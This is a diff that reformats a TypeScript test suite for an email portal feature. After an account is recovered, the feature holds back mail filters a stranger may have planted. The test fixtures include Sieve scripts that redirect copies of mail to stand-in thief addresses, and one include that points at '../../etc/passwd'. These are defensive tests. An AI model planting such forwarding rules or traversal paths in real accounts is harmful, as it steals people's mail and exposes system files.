@@ -25,7 +25,10 @@ import type { Answer, Visitor } from './support/visitor.ts'
 const page = '/account/filters'
 const next = 'a password after the reset'
 /** Blanks and line ends as no program would write them by itself. */
-const theft = { name: 'main', text: 'require "copy";\r\n\n  redirect :copy "thief@elsewhere.example";# ☂\n' }
+const theft = {
+  name: 'main',
+  text: 'require "copy";\r\n\n  redirect :copy "thief@elsewhere.example";# ☂\n',
+}
 
 let platform: MemoryPlatform
 let portal: TestPortal
@@ -37,17 +40,26 @@ after(() => portal.stop())
 beforeEach(() => forgetLimits(portal))
 
 const settled = (mailbox: string) =>
-  eventually(() => portal.db('mailboxes').where({ address: mailbox }).whereRaw('applied_revision >= revision').first())
+  eventually(() =>
+    portal
+      .db('mailboxes')
+      .where({ address: mailbox })
+      .whereRaw('applied_revision >= revision')
+      .first(),
+  )
 const active = async (mailbox: string) => {
   await settled(mailbox)
   return platform.activeFilterOf(mailbox)
 }
 const press = (visitor: Visitor, html: string, what: 'keep' | 'remove', nth = 0) => {
-  const paths = [...html.matchAll(new RegExp(`action="(${page}/[0-9a-f-]{36}/${what})"`, 'g'))].map(([, path]) => path)
+  const paths = [...html.matchAll(new RegExp(`action="(${page}/[0-9a-f-]{36}/${what})"`, 'g'))].map(
+    ([, path]) => path,
+  )
   return visitor.post(paths[nth] ?? assert.fail(`no button to ${what}`), {}, { from: page })
 }
 /** What the next page says was done, or why nothing was. */
-const toldBy = ({ headers }: Answer) => /(?:^|-)done=([^;]*)/m.exec(headers.getSetCookie().join('\n'))?.[1]
+const toldBy = ({ headers }: Answer) =>
+  /(?:^|-)done=([^;]*)/m.exec(headers.getSetCookie().join('\n'))?.[1]
 const opposite = { keep: 'remove', remove: 'keep' } as const
 const doneBy = { keep: 'kept', remove: 'removed' } as const
 const eventsOf = (accountId: string) =>
@@ -81,8 +93,10 @@ async function recovered(): Promise<{ person: Equipped; visitor: Visitor }> {
 
 describe('a filter that a stranger left', () => {
   const ways: Record<string, (person: Equipped) => Promise<unknown>> = {
-    'a reset by a code sent to the phone': async (person) => setPassword(await proveByPhone(portal, person), next),
-    'a reset by a link to the backup address': async (person) => setPassword(await proveByLink(person), next),
+    'a reset by a code sent to the phone': async (person) =>
+      setPassword(await proveByPhone(portal, person), next),
+    'a reset by a link to the backup address': async (person) =>
+      setPassword(await proveByLink(person), next),
     'a reset by the security question': async (person) => {
       const visitor = await begin(portal, person.login)
       await visitor.post('/recover/security-question', { answer: person.answer })
@@ -91,7 +105,11 @@ describe('a filter that a stranger left', () => {
     '“this was not me”': async (person) => {
       await person.browser.post('/account/password', { password: 'chosen by a stranger' })
       const link = await undoLinkOf(portal, person.address)
-      assert.deepEqual((await active(person.mailbox))?.name, 'main', 'a change by its owner leaves filters alone')
+      assert.deepEqual(
+        (await active(person.mailbox))?.name,
+        'main',
+        'a change by its owner leaves filters alone',
+      )
       await portal.visitor().post(link, {}, { from: link })
     },
     'signing all other devices out': (person) =>
@@ -118,7 +136,10 @@ describe('a filter that a stranger left', () => {
       const calls = platform.calls.slice(before).filter(({ address }) => address === person.mailbox)
       const order = calls.map(({ call }) => call)
       assert.ok(order.indexOf('endSessions') >= 0)
-      assert.ok(order.lastIndexOf('endSessions', order.indexOf('filters.deactivate')) >= 0, order.join())
+      assert.ok(
+        order.lastIndexOf('endSessions', order.indexOf('filters.deactivate')) >= 0,
+        order.join(),
+      )
       assert.deepEqual(await eventsOf(person.accountId), ['filters.held'])
     })
   }
@@ -127,14 +148,20 @@ describe('a filter that a stranger left', () => {
 describe('the page of filters', () => {
   it('shows where one leads and since when it waits; the overview and the record tell of it', async () => {
     const { person, visitor } = await recovered()
-    assert.match((await visitor.get('/account')).html, /Filters are waiting for you[\s\S]*href="\/account\/filters"/)
+    assert.match(
+      (await visitor.get('/account')).html,
+      /Filters are waiting for you[\s\S]*href="\/account\/filters"/,
+    )
     const shown = await visitor.get(page)
     assert.deepEqual([shown.status, shown.page], [200, 'filters'])
     assert.match(
       shown.html,
       /main[\s\S]*Switched off[\s\S]*Forwards a copy of emails to:[\s\S]*thief<wbr>@elsewhere\.example/,
     )
-    assert.match((await visitor.get('/account/activity')).html, /A filter was switched off until you keep or remove it/)
+    assert.match(
+      (await visitor.get('/account/activity')).html,
+      /A filter was switched off until you keep or remove it/,
+    )
     const row = await portal.db('held_filters').where({ account_id: person.accountId }).first()
     assert.ok(!JSON.stringify(row).includes('thief'), 'what a filter says is sealed')
   })
@@ -147,26 +174,48 @@ describe('the page of filters', () => {
 
   it('is for the owner alone, and deciding demands a fresh password', async () => {
     const { person, visitor } = await recovered()
-    assert.equal((await portal.visitor().get(page)).location, `/sign-in?next=${encodeURIComponent(page)}`)
+    assert.equal(
+      (await portal.visitor().get(page)).location,
+      `/sign-in?next=${encodeURIComponent(page)}`,
+    )
     const { html } = await visitor.get(page)
     const stranger = (await arrive(portal)).visitor
     const [, path = ''] = /action="([^"]+\/keep)"/.exec(html) ?? []
     const itsOwner = await portal.db('held_filters').where({ account_id: person.accountId })
-    const before = await portal.db('mailboxes').orderBy('account_id').select('account_id', 'revision')
+    const before = await portal
+      .db('mailboxes')
+      .orderBy('account_id')
+      .select('account_id', 'revision')
     for (const what of ['keep', 'remove']) {
-      for (const asked of [path.replace('keep', what), `${page}/${randomUUID()}/${what}`, `${page}/nonsense/${what}`]) {
+      for (const asked of [
+        path.replace('keep', what),
+        `${page}/${randomUUID()}/${what}`,
+        `${page}/nonsense/${what}`,
+      ]) {
         const answer = await stranger.post(asked, {}, { from: '/account/password' })
         assert.deepEqual([answer.status, toldBy(answer)], [404, undefined], asked)
       }
     }
-    assert.deepEqual(await portal.db('held_filters').where({ account_id: person.accountId }), itsOwner)
-    assert.deepEqual(await portal.db('mailboxes').orderBy('account_id').select('account_id', 'revision'), before)
+    assert.deepEqual(
+      await portal.db('held_filters').where({ account_id: person.accountId }),
+      itsOwner,
+    )
+    assert.deepEqual(
+      await portal.db('mailboxes').orderBy('account_id').select('account_id', 'revision'),
+      before,
+    )
     portal.clock.advance(11 * 60_000)
     for (const what of ['keep', 'remove'] as const) {
-      assert.match((await press(visitor, html, what)).location ?? '', /^\/account\/confirm-password\?next=/)
+      assert.match(
+        (await press(visitor, html, what)).location ?? '',
+        /^\/account\/confirm-password\?next=/,
+      )
     }
     assert.equal(await active(person.mailbox), undefined)
-    assert.equal((await portal.db('held_filters').where({ account_id: person.accountId })).length, 1)
+    assert.equal(
+      (await portal.db('held_filters').where({ account_id: person.accountId })).length,
+      1,
+    )
   })
 
   it('brings back byte for byte what is kept, once, even when the button is pressed twice', async () => {
@@ -183,7 +232,10 @@ describe('the page of filters', () => {
     assert.deepEqual(await active(person.mailbox), theft)
     assert.match((await visitor.get(page)).html, /No filter is waiting for you/)
     assert.deepEqual(await eventsOf(person.accountId), ['filters.held', 'filters.kept'])
-    assert.match((await visitor.get('/account/activity')).html, /A filter was kept: it leads to 1 address/)
+    assert.match(
+      (await visitor.get('/account/activity')).html,
+      /A filter was kept: it leads to 1 address/,
+    )
   })
 
   it('deletes from the mailbox what is removed', async () => {
@@ -191,13 +243,19 @@ describe('the page of filters', () => {
     assert.equal((await press(visitor, (await visitor.get(page)).html, 'remove')).location, page)
     await settled(person.mailbox)
     assert.deepEqual(await platform.filters?.list(person.mailbox), [])
-    assert.equal((await portal.db('held_filters').where({ account_id: person.accountId })).length, 0)
+    assert.equal(
+      (await portal.db('held_filters').where({ account_id: person.accountId })).length,
+      0,
+    )
     assert.deepEqual(await eventsOf(person.accountId), ['filters.held', 'filters.removed'])
   })
 
   it('tells of what an included script does, and of one whose include is missing', async () => {
     const person = await burgled()
-    await platform.filters?.write(person.mailbox, { name: 'quiet', text: 'redirect "hidden@elsewhere.example";' })
+    await platform.filters?.write(person.mailbox, {
+      name: 'quiet',
+      text: 'redirect "hidden@elsewhere.example";',
+    })
     const text = 'require "include"; include "quiet"; include "../../etc/passwd";'
     platform.putFilter(person.mailbox, { name: 'main', text })
     await person.browser.post('/account/sessions/end-others', {}, { from: '/account/password' })
@@ -219,22 +277,38 @@ describe('a decision on a filter', () => {
       await portal.stopWorker()
       try {
         assert.equal(toldBy(await press(visitor, html, first)), doneBy[first])
-        assert.equal(toldBy(await press(visitor, html, second)), stands, 'before the platform knows')
+        assert.equal(
+          toldBy(await press(visitor, html, second)),
+          stands,
+          'before the platform knows',
+        )
         assert.equal(toldBy(await press(visitor, html, first)), doneBy[first])
       } finally {
         await portal.startWorker()
       }
       const result = first === 'keep' ? theft : undefined
       assert.deepEqual(await active(person.mailbox), result)
-      const done = () => portal.db('settled_filters').where({ account_id: person.accountId }).first()
+      const done = () =>
+        portal.db('settled_filters').where({ account_id: person.accountId }).first()
       assert.equal((await eventually(done)).decision, first)
-      assert.equal(toldBy(await press(visitor, html, second)), stands, 'when it is done on the platform')
+      assert.equal(
+        toldBy(await press(visitor, html, second)),
+        stands,
+        'when it is done on the platform',
+      )
       const shown = (await visitor.get(page)).html
       assert.match(shown, new RegExp(`notice--warning.*already been ${doneBy[first]}`, 's'))
       assert.doesNotMatch(shown, /notice--success/)
-      assert.equal(toldBy(await press(visitor, html, first)), doneBy[first], 'the same again is answered as the first')
+      assert.equal(
+        toldBy(await press(visitor, html, first)),
+        doneBy[first],
+        'the same again is answered as the first',
+      )
       assert.deepEqual(await active(person.mailbox), result)
-      assert.deepEqual(await eventsOf(person.accountId), ['filters.held', `filters.${doneBy[first]}`])
+      assert.deepEqual(await eventsOf(person.accountId), [
+        'filters.held',
+        `filters.${doneBy[first]}`,
+      ])
     })
   }
 
@@ -243,10 +317,14 @@ describe('a decision on a filter', () => {
       await forgetLimits(portal)
       const { person, visitor } = await recovered()
       const { html } = await visitor.get(page)
-      const answers = await Promise.all([press(visitor, html, 'keep'), press(visitor, html, 'remove')])
+      const answers = await Promise.all([
+        press(visitor, html, 'keep'),
+        press(visitor, html, 'remove'),
+      ])
       const [keep, remove] = answers.map(toldBy)
       assert.ok(
-        (keep === 'kept' && remove === 'kept-before') || (keep === 'removed-before' && remove === 'removed'),
+        (keep === 'kept' && remove === 'kept-before') ||
+          (keep === 'removed-before' && remove === 'removed'),
         `${keep}, ${remove}`,
       )
       assert.deepEqual(await active(person.mailbox), keep === 'kept' ? theft : undefined)
@@ -276,7 +354,10 @@ describe('a decision on a filter', () => {
       await visitor.post('/account/sessions/end-others', {}, { from: '/account/password' })
       const twin = { accountId: person.accountId, name: theft.name, at: portal.clock.now() }
       await portal.db.transaction((trx) => insertHeldFilter(trx, portal.keyring, twin))
-      assert.equal(toldBy(await press(visitor, (await visitor.get(page)).html, 'remove')), 'removed')
+      assert.equal(
+        toldBy(await press(visitor, (await visitor.get(page)).html, 'remove')),
+        'removed',
+      )
     } finally {
       await portal.startWorker()
     }
@@ -291,9 +372,14 @@ describe('a decision on a filter', () => {
     assert.deepEqual(await active(person.mailbox), theft)
     await visitor.post('/account/sessions/end-others', {}, { from: '/account/password' })
     assert.equal(await active(person.mailbox), undefined)
-    for (const what of ['keep', 'remove'] as const) assert.equal((await press(visitor, html, what)).status, 404)
+    for (const what of ['keep', 'remove'] as const)
+      assert.equal((await press(visitor, html, what)).status, 404)
     assert.equal(await active(person.mailbox), undefined)
-    assert.equal((await portal.db('held_filters').where({ account_id: person.accountId, decision: null })).length, 1)
+    assert.equal(
+      (await portal.db('held_filters').where({ account_id: person.accountId, decision: null }))
+        .length,
+      1,
+    )
   })
 
   it('is remembered as long as a session can last', async () => {
@@ -305,7 +391,10 @@ describe('a decision on a filter', () => {
     await cleanUp()
     assert.ok(await known())
     const old = new Date(settled_at.getTime() - 12 * 3_600_000)
-    await portal.db('settled_filters').where({ account_id: person.accountId }).update({ settled_at: old })
+    await portal
+      .db('settled_filters')
+      .where({ account_id: person.accountId })
+      .update({ settled_at: old })
     await cleanUp()
     assert.equal(await known(), undefined)
   })
@@ -329,7 +418,11 @@ describe('a script that names another', () => {
         return texts[name]
       },
     }
-    const scripts = await readWithIncluded(door as unknown as FilterDoor, 'hanna.k@postern.example', 'main')
+    const scripts = await readWithIncluded(
+      door as unknown as FilterDoor,
+      'hanna.k@postern.example',
+      'main',
+    )
     assert.deepEqual(
       scripts.map(({ name }) => name),
       ['main', 'quiet'],
@@ -374,7 +467,8 @@ describe('a filter that waits', () => {
       await setPassword(await proveByPhone(portal, person), next)
       assert.equal(await active(person.mailbox), undefined)
       const visitor = await signIn(portal, { login: person.login, password: next })
-      if (call === 'activate') platform.next('filters.activate', { kind: 'lose-answer' }, { kind: 'twice' })
+      if (call === 'activate')
+        platform.next('filters.activate', { kind: 'lose-answer' }, { kind: 'twice' })
       await press(visitor, (await visitor.get(page)).html, 'keep')
       assert.deepEqual(await active(person.mailbox), theft, call)
       assert.deepEqual(await eventsOf(person.accountId), ['filters.held', 'filters.kept'], call)
@@ -387,7 +481,10 @@ describe('a filter that waits', () => {
     const again = 'yet another long password'
     assert.equal((await setPassword(await proveByLink(person), again)).status, 303)
     assert.equal(await active(person.mailbox), undefined)
-    assert.equal((await portal.db('held_filters').where({ account_id: person.accountId })).length, 1)
+    assert.equal(
+      (await portal.db('held_filters').where({ account_id: person.accountId })).length,
+      1,
+    )
   })
 
   it('waits again where a reset comes between the decision and the platform', async () => {
@@ -412,7 +509,10 @@ describe('a filter that waits', () => {
   it('is under the newest key after a change of keys', async () => {
     const { person } = await recovered()
     const newest = 'a-newer-key-0123456789abcdefghijklmnop'
-    const env = { DATABASE_URL: portal.database.url, SECRET_KEYS: [newest, ...portal.settings.secretKeys].join() }
+    const env = {
+      DATABASE_URL: portal.database.url,
+      SECRET_KEYS: [newest, ...portal.settings.secretKeys].join(),
+    }
     const before = await portal.db('held_filters').where({ account_id: person.accountId }).first()
     assert.equal((await runCommand(['rekey'], env)).status, 0)
     const after = await portal.db('held_filters').where({ account_id: person.accountId }).first()
@@ -432,7 +532,11 @@ describe('a mail platform', () => {
     platform.next('filters.list', { kind: 'fail', error })
     await setPassword(await proveByPhone(portal, person), next)
     await eventually(() =>
-      portal.db('mailboxes').where({ address: person.mailbox }).whereNotNull('needs_operator_at').first(),
+      portal
+        .db('mailboxes')
+        .where({ address: person.mailbox })
+        .whereNotNull('needs_operator_at')
+        .first(),
     )
     assert.equal(platform.activeFilterOf(person.mailbox), undefined)
     const visitor = await signIn(portal, { login: person.login, password: next })
